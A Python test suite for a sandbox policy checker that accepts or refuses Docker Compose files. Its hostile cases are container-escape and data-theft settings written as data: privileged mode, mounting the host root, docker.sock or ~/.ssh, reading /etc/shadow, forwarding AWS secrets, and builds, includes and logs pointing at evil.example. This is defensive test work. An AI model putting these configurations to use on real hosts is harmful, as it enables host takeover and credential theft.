"""Answers of the sandbox policy."""

import json

import pytest

from orket._answers import CHECKS
from orket.contracts import SandboxPorts, SandboxQuestion, TechStack

KIND = "sandbox_policy"
PORTS = SandboxPorts(api=8000, frontend=3000, database=5432)
STACK = TechStack.FASTAPI_REACT_POSTGRES
QUESTION = SandboxQuestion(sandbox_id="s", stack=STACK, ports=PORTS, product="p", database_password="hunter2")


def compose(top: dict | None = None, **service) -> str:
    return json.dumps({"services": {"api": {"image": "python:3.12", **service}}, **(top or {})})


def judge(text: object) -> str | None:
    return CHECKS[KIND, "compose_file"](text, QUESTION)


HARMLESS = [
    compose(),
    compose(build={"context": "p/backend", "args": {"file": "x"}}, ports=["127.0.0.1:8000:8000"]),
    compose({"volumes": {"data": {}, "devices": None}}, volumes=["data:/var/lib/data", "/cache"]),
    compose(volumes=[{"type": "volume", "source": "data", "target": "/d"}, {"type": "tmpfs", "target": "/t"}]),
    compose({"networks": {"inner": {"driver": "bridge", "internal": True}, "plain": None}}, networks={"inner": None}),
    compose(environment={"privileged": "1", "pid": "host"}, labels={"file": "x"}, cap_drop=["ALL"]),
    compose(security_opt=["no-new-privileges:true"], privileged=False, network_mode="none", pid=None),
    compose(network_mode="service:db", ipc="private", read_only=True),
    json.dumps({"services": {"runtime": {"image": "a"}, "network": {"image": "b"}}}),
]

HARMFUL = [
    (compose(privileged=True), "services.api.privileged is set"),
    (compose(privileged="true"), "services.api.privileged is set"),
    (compose(build={"context": ".", "privileged": True}), "services.api.build.privileged is set"),
    (compose(cap_add=["SYS_ADMIN"]), "services.api.cap_add is set"),
    (compose(devices=["/dev/kvm"]), "services.api.devices is set"),
    (compose(use_api_socket=True), "services.api.use_api_socket is set"),
    (compose(deploy={"resources": {"reservations": {"devices": [{}]}}}), "reservations.devices is set"),
    (compose(post_start=[{"command": "x", "privileged": True}]), "services.api.post_start[0].privileged is set"),
    (compose(security_opt=["seccomp:unconfined"]), "services.api.security_opt is set"),
    (compose(security_opt="no-new-privileges:true"), "services.api.security_opt is set"),
    (compose(volumes=["/:/host"]), "services.api.volumes[0] mounts the host"),
    (compose(volumes=["data:/a", "./src:/app"]), "services.api.volumes[1] mounts the host"),
    (compose(volumes=["~/.ssh:/ssh"]), "mounts the host"),
    (compose(volumes=["C:\\Users:/users"]), "mounts the host"),
    (compose(volumes=["${HOME:-/}:/home"]), "mounts the host"),
    (compose(volumes=["${MOUNT}"]), "mounts the host"),
    (compose(volumes=[{"type": "bind", "source": "/", "target": "/host"}]), "mounts the host"),
    (compose(volumes=[{"type": "volume", "source": "/", "target": "/host"}]), "mounts the host"),
    (compose(volumes=[["/:/host"]]), "mounts the host"),
    (compose({"volumes": {"data": {"driver_opts": {"device": "/"}}}}), "volumes.data.driver_opts is set"),
    (compose({"volumes": {"data": {"external": True}}}), "volumes.data.external is set"),
    (compose({"secrets": {"key": {"file": "/etc/shadow"}}}), "secrets.key.file is set"),
    (compose({"include": ["other.yml"]}), "include is set"),
    (compose(extends={"file": "other.yml", "service": "x"}), "services.api.extends is set"),
    (compose(env_file="/etc/environment"), "services.api.env_file is set"),
    (compose(network_mode="host"), "services.api.network_mode is shared"),
    (compose(network_mode="HOST"), "services.api.network_mode is shared"),
    (compose(network_mode="${NET}"), "services.api.network_mode is shared"),
    (compose(pid="host"), "services.api.pid is shared"),
    (compose(ipc="container:other"), "services.api.ipc is shared"),
    (compose(uts=["host"]), "services.api.uts is shared"),
    (compose(build={"context": ".", "network": "host"}), "services.api.build.network is shared"),
    (compose({"networks": {"host": None}}), "networks.host is not private"),
    (compose({"networks": {"out": {"driver": "host"}}}), "networks.out is not private"),
    (compose({"networks": {"out": "host"}}), "networks.out is not private"),
    (json.dumps({"x-evil": {"privileged": True}, "services": {"a": {"<<": {}}}}), "x-evil.privileged is set"),
    (json.dumps({"services": {"a": {"<<": {"image": "x"}}}}), "services.a.<< is set"),
]


HARMLESS += [
    compose(build="p", image="mine", command=["sh", "-c", "echo $$HOME"], environment=["A=1", "B=$$$$"]),
    compose(ports=[{"target": 80, "published": "3000", "host_ip": "127.0.0.1", "protocol": "tcp"}]),
    compose(logging={"driver": "json-file", "options": {"max-size": "1m"}}, depends_on={"db": {"condition": "x"}}),
    compose({"name": "n", "x-note": {"anything": "goes"}}, ulimits={"nofile": 64}, tmpfs=["/run"], user="1000"),
    compose({"configs": {"a": {"content": "text"}}}, configs=[{"source": "a", "target": "/etc/a"}]),
    compose(build={"context": "./p/./x", "dockerfile": "docker/Dockerfile", "args": ["A=1"], "target": "dev"}),
]

HOSTILE = {
    "a context that is an address": compose(build="https://evil.example/x.git"),
    "a context over ssh": compose(build={"context": "git@evil.example:x.git"}),
    "a context beside the product": compose(build={"context": "p/../q"}),
    "a context above": compose(build=".."),
    "a context that is the root": compose(build="/"),
    "a context with the product's beginning": compose(build="product"),
    "a context that is none": compose(build={"dockerfile_inline": "FROM x"}),
    "a context that is a number": compose(build={"context": 7}),
    "a Dockerfile of the host": compose(build={"context": "p", "dockerfile": "/etc/passwd"}),
    "a Dockerfile above": compose(build={"context": "p", "dockerfile": "../../Dockerfile"}),
    "a Dockerfile at home": compose(build={"context": "p", "dockerfile": "~/Dockerfile"}),
    "the host's keys in a build": compose(build={"context": "p", "ssh": ["default"]}),
    "a build that writes a cache": compose(build={"context": "p", "cache_to": ["type=local,dest=/srv"]}),
    "a build that reads a cache": compose(build={"context": "p", "cache_from": ["type=local,src=/srv"]}),
    "a build that takes an image's name": compose(build={"context": "p", "tags": ["postgres:16"]}),
    "another folder in a build": compose(build={"context": "p", "additional_contexts": {"etc": "/etc"}}),
    "a build with rights": compose(build={"context": "p", "entitlements": ["security.insecure"]}),
    "a build in a network": compose(build={"context": "p", "network": "somebodys"}),
    "a build with secrets": compose(build={"context": "p", "secrets": ["key"]}),
    "a build that asks the host": compose(build={"context": "p", "args": ["AWS_SECRET_ACCESS_KEY"]}),
    "a build that asks the host by name": compose(build={"context": "p", "args": {"TOKEN": None}}),
    "a variable of the host": compose(environment={"TOKEN": None}),
    "a listed variable of the host": compose(environment=["AWS_SECRET_ACCESS_KEY"]),
    "variables that are no list": compose(environment="TOKEN"),
    "a value that is filled in": compose(environment={"A": "${AWS_SECRET_ACCESS_KEY}"}),
    "a command that is filled in": compose(command="echo $HOME"),
    "three dollar signs": compose(command="echo $$$HOME"),
    "a name that is filled in": compose({"volumes": {"$HOME": {}}}),
    "an extension that is filled in": compose({"x-a": {"b": ["$A"]}}),
    "a file of variables": compose(env_file=[{"path": "/etc/environment", "required": False}]),
    "a file of labels": compose(label_file="/etc/labels"),
    "the engine's socket": compose(volumes=["/var/run/docker.sock:/var/run/docker.sock"]),
    "the engine's socket in many words": compose(
        volumes=[{"type": "bind", "source": "/var/run/docker.sock", "target": "/s", "bind": {}}]
    ),
    "a pipe of the host": compose(volumes=[{"type": "npipe", "source": "x", "target": "/p"}]),
    "an image as a volume": compose(volumes=[{"type": "image", "source": "x", "target": "/p"}]),
    "volumes that are one text": compose(volumes="/:/host"),
    "somebody's volume": compose({"volumes": {"data": {"name": "somebodys"}}}),
    "a volume of a plugin": compose({"volumes": {"data": {"driver": "sshfs"}}}),
    "a bound volume": compose({"volumes": {"data": {"driver_opts": {"type": "none", "o": "bind", "device": "/"}}}}),
    "volumes of another container": compose(volumes_from=["container:other"]),
    "a secret of the host": compose({"secrets": {"key": {"environment": "AWS_SECRET_ACCESS_KEY"}}}),
    "a config of the host": compose({"configs": {"a": {"environment": "TOKEN"}}}),
    "a config file of the host": compose({"configs": {"a": {"file": "/etc/shadow"}}}),
    "somebody's network": compose({"networks": {"n": {"name": "somebodys"}}}),
    "somebody's network, plainly": compose(network_mode="somebodys"),
    "the bridge of all": compose(network_mode="bridge"),
    "a network with the host's addresses": compose(
        {"networks": {"n": {"ipam": {"config": [{"subnet": "10.0.0.0/8"}]}}}}
    ),
    "a network with options": compose({"networks": {"n": {"driver_opts": {"com.docker.network.bridge.name": "eth0"}}}}),
    "users of the host": compose(userns_mode="host"),
    "control groups of the host": compose(cgroup="host"),
    "processes of another": compose(pid="container:other"),
    "processes that are filled in": compose(pid="${PID}"),
    "devices by rule": compose(device_cgroup_rules=["a *:* rwm"]),
    "graphic cards": compose(gpus="all"),
    "another runtime": compose(runtime="sysbox"),
    "settings of the kernel": compose(sysctls={"kernel.msgmax": 1}),
    "a parent of the host": compose(cgroup_parent="/"),
    "the host's groups": compose(group_add=["docker"]),
    "notes for the runtime": compose(annotations={"run.oci.keep_original_groups": "1"}),
    "memory of others": compose(oom_kill_disable=True),
    "life before others": compose(oom_score_adj=-1000),
    "labels of SELinux": compose(security_opt=["label:disable"]),
    "a file of rules": compose(security_opt=["seccomp=/tmp/x.json"]),
    "a log that is sent away": compose(logging={"driver": "syslog", "options": {"syslog-address": "tcp://evil"}}),
    "a log that is no object": compose(logging="syslog"),
    "a log with a path": compose(logging={"driver": "json-file", "options": {"path": "/srv"}}),
    "a port on all addresses": compose(ports=["8000:8000"]),
    "a port on one address": compose(ports=["10.0.0.1:8000:8000"]),
    "a port of no choice": compose(ports=["8000"]),
    "another port": compose(ports=["127.0.0.1:22:22"]),
    "a range of ports": compose(ports=["127.0.0.1:8000-8010:8000-8010"]),
    "a port in many words": compose(ports=[{"target": 80, "published": 8000}]),
    "a port in other digits": compose(ports=[{"target": 80, "published": "٨٠٠٠", "host_ip": "127.0.0.1"}]),
    "ports that are one text": compose(ports="127.0.0.1:8000:8000"),
    "a part of another file": compose(extends={"service": "x", "file": "https://evil.example/c.yml"}),
    "another file": compose({"include": [{"path": "oci://evil.example/c"}]}),
    "a program of the host": compose(provider={"type": "awesomecloud"}),
    "the user's own credentials": compose(use_api_socket=True),
    "files that are watched": compose(develop={"watch": [{"path": "/", "action": "sync"}]}),
    "models": compose({"models": {"llm": {"model": "x"}}}),
    "what a later specification says": compose(host_everything=True),
    "a section of a later specification": compose({"hosts": {}}),
    "a service that is no object": json.dumps({"services": {"a": "image"}}),
    "a merge": json.dumps({"services": {"a": {"<<": {"privileged": True}}}}),
    "a privilege in an anchor": compose({"x-a": {"privileged": True}}),
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_compose_files_are_refused(text):
    """Whatever reaches for the host, for others' things or for what is not known is refused, and says what is valid."""
    complaint = judge(text)
    assert complaint is not None
    assert "; valid: " in complaint


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_compose_files_pass(text):
    """Volumes, networks, builds and hardening of the sandbox's own are allowed."""
    assert judge(text) is None


@pytest.mark.parametrize(("text", "complaint"), HARMFUL)
def test_a_hold_on_the_host_is_refused(text, complaint):
    """Every way to privileges, files, namespaces or networks of the host is found, however deep it is hidden."""
    assert complaint in judge(text)


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        (None, "answer is None; valid: str"),
        ("services:\n  api: {}", "answer is no JSON (Expecting value)"),
        ('{"services": {"a": {}, "a": {"privileged": true}}}', "answer is no JSON (an object has a key twice)"),
        ("[" * 100_000, "answer is no JSON"),
        ("[]", "answer has no services"),
        ('{"services": {}}', "answer has no services"),
        ('{"services": ["api"]}', "answer has no services"),
    ],
)
def test_other_texts_are_no_compose_files(text, complaint):
    """What is not a JSON object with services, parsed strictly, is no compose file."""
    assert complaint in judge(text)


@pytest.mark.parametrize("method", ["build_sandbox_id", "build_compose_project"])
def test_names_are_lower_case_words(method):
    """Names consist of a-z, 0-9 and dashes and cannot be taken for an option."""
    check = CHECKS[KIND, method]
    assert check("sandbox-rock-1", "rock") is None
    for bad in ("Rock", "rock_1", "", "-rock", "rock\n", None):
        assert "valid: a str of [a-z0-9-]" in check(bad, "rock")


@pytest.mark.parametrize("url", ["", "postgresql://u:hunter2@localhost:5432/db", "sqlite:///data.db", "mongodb://h/db"])
def test_urls_pass(url):
    """A URL with a scheme passes; a stack without a database has an empty one."""
    assert CHECKS[KIND, "database_url"](url, STACK, PORTS, "hunter2") is None


@pytest.mark.parametrize(
    "url", ["hunter2", "localhost:5432", "http://a hunter2", "http://[hunter2", "http://a\nb", b"x"]
)
def test_other_texts_are_no_urls_and_stay_unsaid(url):
    """What is no URL is refused without quoting it: it may hold the password."""
    complaint = CHECKS[KIND, "database_url"](url, STACK, PORTS, "hunter2")
    assert "valid: " in complaint
    assert "hunter2" not in complaint
